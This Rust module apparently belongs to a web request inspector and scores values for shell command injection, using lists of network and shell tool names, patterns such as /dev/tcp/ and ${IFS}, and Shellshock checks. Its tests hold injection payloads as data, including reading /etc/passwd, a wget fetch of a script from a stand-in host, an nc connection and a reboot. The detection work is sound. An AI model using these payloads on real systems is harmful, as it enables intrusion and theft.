//! Shell commands: a separator, a command and what belongs to one.

use super::{Hit, Place};

/// Commands whose name alone, after a separator, leaves no doubt.
const TELLING: &[&[u8]] = &[
    b"whoami",
    b"uname",
    b"wget",
    b"curl",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"nslookup",
    b"tracert",
    b"traceroute",
    b"tasklist",
    b"systeminfo",
    b"chmod",
    b"chown",
    b"busybox",
    b"tftp",
    b"nc",
    b"ncat",
    b"netcat",
    b"telnet",
    b"powershell",
    b"cmd",
    b"cmd.exe",
    b"bash",
    b"ping",
    b"ping.exe",
    b"phpinfo",
    b"system",
    b"passthru",
    b"shell_exec",
    b"exec",
    b"base64",
    b"printenv",
    b"mkfifo",
    b"certutil",
    b"bitsadmin",
    b"wmic",
    b"reg",
    b"net.exe",
    b"rundll32",
    b"crontab",
    b"useradd",
    b"dig",
    b"ftpget",
    b"pwd",
    b"id",
    b"ls",
    b"ps",
    b"dir",
    b"lwp-download",
    b"echo",
];

/// Commands that are words as well: they need an argument that no sentence has.
const COMMON: &[&[u8]] = &[
    b"cat", b"more", b"less", b"head", b"tail", b"sleep", b"touch", b"type", b"net", b"sh", b"ksh", b"zsh",
    b"rm", b"cp", b"mv", b"find", b"grep", b"kill", b"cd", b"env", b"set", b"perl", b"python", b"python3",
    b"php", b"ruby", b"node", b"java", b"gcc", b"vi", b"sed", b"awk", b"who", b"w", b"df", b"mount", b"copy",
    b"del", b"start", b"rd", b"md", b"ver", b"true", b"false", b"nid", b"timeout", b"export", b"printf",
    b"test", b"date", b"host", b"su", b"sudo", b"tar", b"mail", b"finger",
];

/// Names of parameters that shells left behind by attackers read their command from.
pub(super) const PARAMETERS: &[&[u8]] = &[b"cmd", b"command", b"exec", b"execute", b"shell", b"system"];

/// Looks for a command that a shell would run; `name` is the parameter's, empty where there is none.
pub(super) fn look(name: &[u8], text: &[u8], place: Place) -> Option<Hit> {
    let hit = |evidence, what| Some(Hit { evidence, what, lone: false });
    if is_shellshock(text) {
        return hit(9.0, "a function definition for a vulnerable shell");
    }
    if memchr::memmem::find(text, b"#exec").is_some() && memchr::memmem::find(text, b"<!--").is_some() {
        return hit(8.0, "a server-side include that runs a command");
    }
    if place == Place::Header {
        return None;
    }
    // A file or message may name a shell; a parameter of a URL has no reason to.
    let mut lone = if place.is_body() { outright(text) * 0.4 } else { outright(text) };
    let mut best = if redirects(text) { 7.0f32 } else { 0.0 };
    // A pipeline as people ask about it: `ps aux | grep -v java`.
    let pipeline = is_command(text) && !text.contains(&b';') && !text.contains(&b'`');
    for at in separators(text) {
        let (evidence, alone) = command_at(&text[at..], text);
        if alone && !is_forced(text, at) || pipeline || is_quoted(text, at) {
            lone = lone.max(evidence);
        } else {
            best = best.max(evidence);
        }
    }
    if text.first().is_some_and(|b| b.is_ascii_alphabetic() || *b == b'/') {
        lone = lone.max(bare_command(text));
    }
    if PARAMETERS.contains(&name) && is_command(text) {
        best = best.max(4.5);
    }
    let what = "a shell command";
    (best.max(lone) > 0.0).then_some(Hit { evidence: best.max(lone), what, lone: best < CERTAIN })
}

/// Evidence of a separator with a command and its argument; what has less is lone.
const CERTAIN: f32 = 4.0;

/// A connection by the shell itself, or its field separator glued to a command.
fn redirects(text: &[u8]) -> bool {
    let after = |sign: &[u8], test: fn(&u8) -> bool| {
        memchr::memmem::find(text, sign).is_some_and(|at| text.get(at + sign.len()).is_some_and(test))
    };
    let glued = [b"$ifs".as_slice(), b"${ifs"].iter().any(|sign| {
        memchr::memmem::find(text, sign).is_some_and(|at| at > 0 && text[at - 1].is_ascii_alphanumeric())
    });
    glued || after(b"/dev/tcp/", u8::is_ascii_digit)
}

/// True for a separator that nobody writes there: after a closing quote or bracket, or around the whole value.
fn is_forced(text: &[u8], at: usize) -> bool {
    let separates = |b: &u8| matches!(b, b';' | b'|' | b'&' | b'\n');
    let before = at.checked_sub(2).map(|at| text[at]);
    let around = text.first().is_some_and(separates) && text.last().is_some_and(separates) && text.len() > 2;
    let separator = at.checked_sub(1).is_some_and(|at| separates(&text[at]));
    separator && (around || before.is_some_and(|b| b"'\")".contains(&b)))
}

/// True for code in running text: words before what opens at `at`.
fn is_quoted(text: &[u8], at: usize) -> bool {
    let before = &text[..at];
    let opened = before.strip_suffix(b"`").or(before.strip_suffix(b"$("));
    opened.is_some_and(|words| words.len() >= 3 && words.ends_with(b" ") && words[0].is_ascii_alphabetic())
}

/// True where the first word is a command.
fn is_command(text: &[u8]) -> bool {
    let (name, ..) = name_of(text);
    TELLING.contains(&name) || COMMON.contains(&name)
}

/// `() { :; };`
fn is_shellshock(text: &[u8]) -> bool {
    memchr::memmem::find_iter(text, b"()").any(|at| {
        let rest = &text[at + 2..];
        let gap = rest.iter().take(4).take_while(|b| **b == b' ').count();
        rest.get(gap) == Some(&b'{') && rest[gap..].iter().take(16).any(|b| matches!(b, b':' | b';' | b'_'))
    })
}

/// Signs that need no separator.
fn outright(text: &[u8]) -> f32 {
    const SIGNS: [(&[u8], f32); 12] = [
        (b"${ifs", 6.5),
        (b"$ifs", 6.0),
        (b"/bin/sh", 6.0),
        (b"/bin/bash", 6.0),
        (b"cmd.exe", 5.5),
        (b"/dev/tcp/", 7.0),
        (b"cmd /c", 6.0),
        (b"cmd+/c", 6.0),
        (b"powershell -", 6.0),
        (b"powershell.exe", 6.0),
        (b"bin/busybox", 6.5),
        (b"${path:", 6.0),
    ];
    SIGNS
        .iter()
        .filter(|(sign, _)| memchr::memmem::find(text, sign).is_some())
        .map(|(_, e)| *e)
        .fold(0.0, f32::max)
}

/// Positions just after something that starts a new command.
fn separators(text: &[u8]) -> impl Iterator<Item = usize> {
    (0..text.len()).filter_map(|at| match &text[at..] {
        [b';' | b'|' | b'&' | b'`', ..] => Some(at + 1),
        // Only short texts are one line that a line break would split; others are written in lines.
        [b'\n', ..] if text.len() <= 80 => Some(at + 1),
        [b'$' | b'<' | b'>', b'(', ..] => Some(at + 2),
        [b'\\', b'n', ..] if text.get(at + 2).is_some_and(|b| matches!(b, b'/' | b'a'..=b'z')) => {
            Some(at + 2)
        }
        _ => None,
    })
}

/// Evidence of the command that `rest`, what follows a separator, begins with, and whether it has no argument.
fn command_at(rest: &[u8], whole: &[u8]) -> (f32, bool) {
    let skip = rest
        .iter()
        .take(6)
        .take_while(|b| matches!(b, b' ' | b'\'' | b'"' | b'|' | b';' | b'&' | b'(' | b'+'))
        .count();
    let rest = &rest[skip..];
    let (name, after, with_path) = name_of(rest);
    if name.is_empty() {
        return (0.0, true);
    }
    let telling = TELLING.contains(&name);
    if !telling && !COMMON.contains(&name) {
        return (if with_path { 5.0 } else { 0.0 }, false);
    }
    // A word after a bare ampersand is half of "research & date".
    let short = whole.len() <= 40 && whole.first() != Some(&b' ') && !between_words(whole, rest);
    let markdown = whole[..whole.len() - rest.len()].ends_with(b" `");
    let argument = argument(after);
    let alone = matches!(argument, Argument::None) && !with_path;
    let evidence = match (argument, with_path) {
        // Code in running text: `ls -l` between words.
        _ if markdown => 0.8,
        (Argument::None, true) => 6.5,
        (Argument::None, false) if telling || short => {
            if telling {
                6.0
            } else {
                4.2
            }
        }
        (Argument::None, false) => 0.8,
        (Argument::Technical, _) if telling || with_path => 7.0,
        (Argument::Technical, _) if is_device_name(after) => 0.0,
        (Argument::Technical, _) => 6.5,
        (Argument::Word, true) => 6.0,
        (Argument::Word, false) if telling && short => 5.0,
        (Argument::Word, false) if telling => 2.0,
        (Argument::Word, false) => 0.0,
        (Argument::Assignment, _) => 0.0,
    };
    (evidence, alone)
}

/// True for what follows a word in a list of devices or versions rather than a command: `touch 7)`, `net tv.plus`.
fn is_device_name(after: &[u8]) -> bool {
    let rest = after.trim_ascii_start();
    let word = &rest[..rest.iter().take(24).take_while(|b| !matches!(b, b' ' | b')' | b';')).count()];
    let number =
        !word.is_empty() && word.iter().all(u8::is_ascii_digit) && rest.get(word.len()) == Some(&b')');
    let dotted = word.contains(&b'.') && !word.iter().any(|b| matches!(b, b'/' | b'\\' | b':' | b'$' | b'-'));
    number || dotted && rest.len() > word.len()
}

/// True for `word & word`: what `rest` follows is a lone separator in a phrase.
fn between_words(whole: &[u8], rest: &[u8]) -> bool {
    let before = whole[..whole.len() - rest.len()].trim_ascii_end();
    let phrase = before.strip_suffix(b"&").or(before.strip_suffix(b";")).or(before.strip_suffix(b"|"));
    phrase.is_some_and(|phrase| phrase.contains(&b' '))
}

/// The command's name without its folder, what follows it, and whether it had a folder of programs.
fn name_of(rest: &[u8]) -> (&[u8], &[u8], bool) {
    let mut at = 0;
    for folder in [b"/".as_slice(), b"usr/", b"local/", b"sbin/", b"bin/"] {
        if rest[at..].starts_with(folder) {
            at += folder.len();
        }
    }
    let with_path = at > 1 && rest[at - 1] == b'/';
    let rest = &rest[at..];
    let len = rest
        .iter()
        .take(24)
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'))
        .count();
    let len = if rest[..len].ends_with(b".") { len - 1 } else { len };
    (&rest[..len], &rest[len..], with_path)
}

enum Argument {
    /// The value or the command ends here.
    None,
    /// An option, path, number, address, variable or bracket.
    Technical,
    /// A word as in a sentence.
    Word,
    /// `id=7`: a name, not a command.
    Assignment,
}

fn argument(after: &[u8]) -> Argument {
    let gap = after.iter().take_while(|b| **b == b' ').count();
    let rest = &after[gap..];
    match rest.first() {
        None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'\'' | b'"' | b'#' | b'>' | b'<' | b'\\')
            if gap == 0 || rest.len() < 64 =>
        {
            Argument::None
        }
        Some(b'=' | b':') if gap == 0 => Argument::Assignment,
        Some(b'-' | b'/' | b'$' | b'.' | b'~' | b'{' | b'*' | b'%') if gap > 0 => Argument::Technical,
        Some(b'$' | b'{' | b'(' | b'/' | b'+' | b'%') => Argument::Technical,
        Some(b'0'..=b'9') if gap > 0 => Argument::Technical,
        Some(_) if gap > 0 && (is_address(rest)) => Argument::Technical,
        Some(_) if gap > 0 => Argument::Word,
        _ => Argument::Assignment,
    }
}

/// `http://…`, `c:\…`, `file.txt`, `a/b`, `name|`
fn is_address(rest: &[u8]) -> bool {
    let len = rest.iter().take(64).take_while(|b| **b != b' ').count();
    let word = &rest[..len];
    let inner = &word[..word.len().saturating_sub(1)];
    inner.iter().any(|b| matches!(b, b'/' | b'\\' | b':' | b'.' | b'|' | b'>' | b'$'))
}

/// A value that is a command line by itself: `ping -n 3 192.0.2.1`, `dir c:\`, `/usr/bin/id`.
fn bare_command(text: &[u8]) -> f32 {
    let (name, after, with_path) = name_of(text);
    let known = TELLING.contains(&name) || COMMON.contains(&name);
    match argument(after) {
        Argument::None if with_path && known => 5.5,
        Argument::Technical if with_path && known => 6.5,
        Argument::Technical
            if known
                && name.len() >= 3
                && after.len() < 80
                && after.first() == Some(&b' ')
                && is_line(after) =>
        {
            4.2
        }
        _ => 0.0,
    }
}

/// True where the argument is an option or a path of a file system, not a number in a sentence.
fn is_line(after: &[u8]) -> bool {
    let rest = &after[after.iter().take_while(|b| **b == b' ').count()..];
    matches!(rest, [b'-', b'a'..=b'z', ..] | [b'/', b'a'..=b'z', ..] | [b'a'..=b'z', b':', b'\\' | b'/', ..])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn evidence(text: &str) -> f32 {
        look(b"", text.as_bytes(), Place::Query).map_or(0.0, |hit| hit.tempered(Place::Query))
    }

    #[test]
    fn commands_decide() {
        for text in [
            "|/usr/bin/id|",
            "a;cat /etc/passwd",
            "& ping -i 30 127.0.0.1 &",
            "; touch x.txt",
            "|| dir c:\\",
            "$(echo${ifs}x)",
            "';sleep 10;'",
            "() { :;}; echo",
            "\n/bin/ls -al",
            "<!--#exec cmd=\"id\"-->",
            "&& wget http://x.example/a.sh",
            "x|nc 10.0.0.1 99",
            "%0a;/sbin/reboot",
        ] {
            assert!(evidence(text) >= 4.0, "{text}: {}", evidence(text));
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in [
            "mozilla/5.0 (windows nt 10.0; win64; x64; rv:130.0)",
            "dogs; cat people; and more",
            "fish & chips",
            "r&d",
            "a;id=7;type=x",
            "black | white",
            "find out more; date and time",
            "first; type your name",
            "price & date",
            "sleep well",
            "tom & jerry; more to come",
            "text/html;q=0.9",
            "head office; host a party",
            "find 3 items",
            "test 1",
        ] {
            assert!(evidence(text) < 2.0, "{text}: {}", evidence(text));
        }
    }

    #[test]
    fn one_piece_never_decides() {
        for text in [
            "author|id",
            "`id` column",
            "`id`",
            "$(whoami)",
            "what does $(uname -a) print",
            "ls -la",
            "ps aux | grep -v x",
        ] {
            assert!(evidence(text) < 3.0, "{text}: {}", evidence(text));
        }
    }
}
